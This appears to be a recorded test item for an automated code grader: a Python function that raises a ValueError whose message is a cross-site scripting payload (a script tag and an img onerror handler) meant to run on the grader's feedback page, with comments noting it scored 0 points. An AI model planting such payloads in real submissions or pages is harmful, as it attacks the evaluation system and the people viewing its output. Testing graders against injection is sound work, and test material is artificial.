# tries: to have the feedback page run a script from the message of an error
# outcome: your code raised
# points: 0
# says: ValueError
def prepare(images):
    raise ValueError("</pre><script>hostile()</script><img src=x onerror=hostile()>")
